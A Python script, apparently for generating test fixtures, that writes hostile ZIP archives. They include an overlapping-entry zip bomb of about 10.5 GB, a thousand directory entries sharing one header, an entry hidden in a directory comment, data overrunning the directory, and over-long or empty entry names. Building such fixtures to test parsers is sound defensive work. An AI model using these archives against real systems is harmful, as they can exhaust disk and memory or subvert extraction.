#!/usr/bin/env python3
"""Writes the hostile and broken archives of this folder (run it here: python3 make_hostile.py).

overlap_bomb.zip      1,000 entries whose Deflate data overlap: each one's data quote the next
                      entry's local header in a stored block and then run on into the next
                      entry's data, so all end in one shared 10 MiB stream (about 10.5 GB in all)
shared_header.zip     1,000 directory entries that all point at one local header
data_into_directory.zip
                      the last entry's compressed size runs on into the central directory
header_in_directory.zip
                      a local header hidden in a central header's comment, and an entry pointing
                      at it
long_path.zip         ok.txt and an entry whose name is a 6,001-byte path
long_name.zip         ok.txt and an entry whose name is one 5,000-byte file name
empty_name.zip        ok.txt and an entry with an empty name and sizes past the end of the file
"""
import struct
import zlib

DOS_TIME = (12 << 11) | (30 << 5)
DOS_DATE = ((2024 - 1980) << 9) | (6 << 5) | 15


def local_header(name, method, crc, csize, usize):
    return struct.pack('<IHHHHHIIIHH', 0x04034B50, 20, 0, method, DOS_TIME, DOS_DATE, crc,
                       csize, usize, len(name), 0) + name


def central_header(name, method, crc, csize, usize, offset, comment=b''):
    return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014B50, 20, 20, 0, method, DOS_TIME, DOS_DATE,
                       crc, csize, usize, len(name), 0, len(comment), 0, 0, 32,
                       offset) + name + comment


def end_record(count, central_size, central_offset):
    return struct.pack('<IHHHHIIH', 0x06054B50, 0, 0, count, count, central_size,
                       central_offset, 0)


def archive(body, centrals):
    central = b''.join(centrals)
    return body + central + end_record(len(centrals), len(central), len(body))


def stored_zip(entries):
    """entries: (name, data) pairs, stored."""
    body, centrals = b'', []
    for name, data in entries:
        crc = zlib.crc32(data)
        centrals.append(central_header(name, 0, crc, len(data), len(data), len(body)))
        body += local_header(name, 0, crc, len(data), len(data)) + data
    return archive(body, centrals)


def overlap_bomb(count=1000, kernel_size=10 * 1024 * 1024):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(kernel_size)) + packer.flush()
    names = [b'f%03d.txt' % i for i in range(count)]
    # From the last entry back: each one's output is the next local header, then the next
    # entry's output. Its CRC runs over the headers first and the shared zeros last.
    headers = [b''] * count
    crcs = [0] * count
    usizes = [0] * count
    csizes = [0] * count
    quoted = b''  # the local headers after entry i, in order
    for i in reversed(range(count)):
        usizes[i] = len(quoted) + kernel_size
        csizes[i] = len(kernel) + sum(5 + len(h) for h in headers[i + 1:])
        crcs[i] = zlib.crc32(bytes(kernel_size), zlib.crc32(quoted))
        headers[i] = local_header(names[i], 8, crcs[i], csizes[i], usizes[i])
        quoted = headers[i] + quoted
    body, offsets = b'', []
    for i in range(count):
        offsets.append(len(body))
        body += headers[i]
        if i + 1 < count:  # a stored, non-final block that quotes the next local header
            n = len(headers[i + 1])
            body += struct.pack('<BHH', 0, n, n ^ 0xFFFF)
    body += kernel
    return archive(body, [central_header(names[i], 8, crcs[i], csizes[i], usizes[i], offsets[i])
                          for i in range(count)])


def shared_header(count=1000):
    data = b'the same bytes, written again and again\n'
    crc = zlib.crc32(data)
    body = local_header(b'same.txt', 0, crc, len(data), len(data)) + data
    return archive(body, [central_header(b'n%03d.txt' % i, 0, crc, len(data), len(data), 0)
                          for i in range(count)])


def data_into_directory():
    a, b = b'first entry\n', b'second entry\n'
    body = local_header(b'a.txt', 0, zlib.crc32(a), len(a), len(a)) + a
    b_offset = len(body)
    # The compressed size claims 40 bytes more than there are: they belong to the directory.
    body += local_header(b'b.txt', 0, zlib.crc32(b), len(b) + 40, len(b)) + b
    return archive(body, [
        central_header(b'a.txt', 0, zlib.crc32(a), len(a), len(a), 0),
        central_header(b'b.txt', 0, zlib.crc32(b), len(b) + 40, len(b), b_offset),
    ])


def header_in_directory():
    a, evil = b'honest entry\n', b'hidden in a comment\n'
    body = local_header(b'a.txt', 0, zlib.crc32(a), len(a), len(a)) + a
    hidden = local_header(b'evil.txt', 0, zlib.crc32(evil), len(evil), len(evil)) + evil
    first = central_header(b'a.txt', 0, zlib.crc32(a), len(a), len(a), 0, hidden)
    hidden_at = len(body) + len(first) - len(hidden)
    second = central_header(b'evil.txt', 0, zlib.crc32(evil), len(evil), len(evil), hidden_at)
    return archive(body, [first, second])


def long_path():
    parts, total = [], 0
    while total < 6001 - 9:
        parts.append(b'd%07d' % len(parts))
        total += 9
    name = b'/'.join(parts) + b'/'
    name += b'f' * (6001 - len(name))
    assert len(name) == 6001
    return stored_zip([(b'ok.txt', b'fine\n'), (name, b'deep\n')])


def long_name():
    name = b'n' * 4996 + b'.txt'
    return stored_zip([(b'ok.txt', b'fine\n'), (name, b'long\n')])


def empty_name():
    ok = b'fine\n'
    body = local_header(b'ok.txt', 0, zlib.crc32(ok), len(ok), len(ok)) + ok
    broken_at = len(body)
    body += local_header(b'', 8, 0x12345678, 0x7FFFFFF0, 0xFFFFFFF0) + b'\x03\x00'
    return archive(body, [
        central_header(b'ok.txt', 0, zlib.crc32(ok), len(ok), len(ok), 0),
        central_header(b'', 8, 0x12345678, 0x7FFFFFF0, 0xFFFFFFF0, broken_at),
    ])


if __name__ == '__main__':
    for file_name, make in [('overlap_bomb.zip', overlap_bomb), ('shared_header.zip', shared_header),
                            ('data_into_directory.zip', data_into_directory),
                            ('header_in_directory.zip', header_in_directory),
                            ('long_path.zip', long_path), ('long_name.zip', long_name),
                            ('empty_name.zip', empty_name)]:
        with open(file_name, 'wb') as out:
            out.write(make())
